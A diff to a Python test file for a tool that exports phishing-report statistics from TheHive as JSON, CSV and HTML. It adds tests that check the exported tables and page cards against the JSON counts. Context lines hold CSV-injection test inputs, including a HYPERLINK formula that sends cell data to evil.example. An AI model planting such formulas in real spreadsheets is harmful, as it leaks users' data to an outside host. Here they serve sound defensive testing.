@@ -219,6 +219,53 @@ def test_csv_writes_one_file_per_table_with_no_cell_a_spreadsheet_would_run(theh
     assert "\n=cmd" not in top
 
 
+def test_the_csv_tables_and_the_pages_figures_are_the_json_counts(thehive_https, stats, tmp_path):
+    """What a SOC manager forwards (a spreadsheet, the page's cards) says what the JSON says, verdict by verdict."""
+    hive = CaseSearch(thehive_https, "5", generate(400, seed=5))
+    folder = tmp_path / "csv"
+
+    got = read_json(stats(hive.url, "--json", "--csv", str(folder), "--html", str(tmp_path / "page.html")))
+
+    def rows(name: str) -> tuple[list[str], list[list[str]]]:
+        header, *body = csv.reader((folder / f"{name}.csv").open(encoding="utf-8"))
+        return header, body
+
+    header, body = rows("verdicts")
+    assert {verdict: (int(c), int(r)) for verdict, c, r in body} == {
+        v: (got["verdicts"][v], got["report_verdicts"][v]) for v in got["verdicts"]
+    }
+    for name, leading, total, counts in (
+        ("months", 3, "cases", "verdicts"),
+        ("month_reports", 2, "reports", "report_verdicts"),
+    ):
+        header, body = rows(name)
+        verdicts = header[leading:]
+        for row, month in zip(body, got["months"], strict=True):
+            cells = dict(zip(verdicts, map(int, row[leading:])))
+            assert (row[0], int(row[header.index(total)])) == (month["month"], month[total])
+            assert cells == {v: month[counts].get(v, 0) for v in verdicts} and sum(cells.values()) == month[total]
+    assert rows("time_to_feedback")[1] == [[d["within"], str(d["reports"])] for d in got["feedback"]["distribution"]]
+    cards = dict(re.findall(r"<dt>([^<]*)</dt><dd>([^<]*)</dd>", (tmp_path / "page.html").read_text(encoding="utf-8")))
+    feedback = got["feedback"]
+    assert {k: cards[k] for k in ("Cases", "Reports", "Reporters", "Answered", "Not yet answered")} == {
+        "Cases": str(got["cases"]),
+        "Reports": str(got["reports"]),
+        "Reporters": str(got["reporters"]),
+        "Answered": str(feedback["answered"]),
+        "Not yet answered": str(feedback["unanswered"]),
+    }
+    assert feedback["answered"] != feedback["unanswered"]
+
+
+def test_the_json_totals_name_every_verdict_even_one_no_case_has(thehive_https, stats):
+    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])
+
+    got = read_json(stats(hive.url, "--json"))
+
+    assert got["verdicts"] == {"Phishing": 0, "Spam": 1, "Legit email": 0, "Simulation": 0, "none": 0}
+    assert got["report_verdicts"] == {"Phishing": 0, "Spam": 1, "Legit email": 0, "Simulation": 0, "none": 0}
+
+
 def test_a_verdict_that_reads_as_a_formula_is_quoted_in_the_columns_it_heads(thehive_https, stats, tmp_path):
     formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
     hive = CaseSearch(thehive_https, "5", [case(1, formula, ["alice@example.org"])])
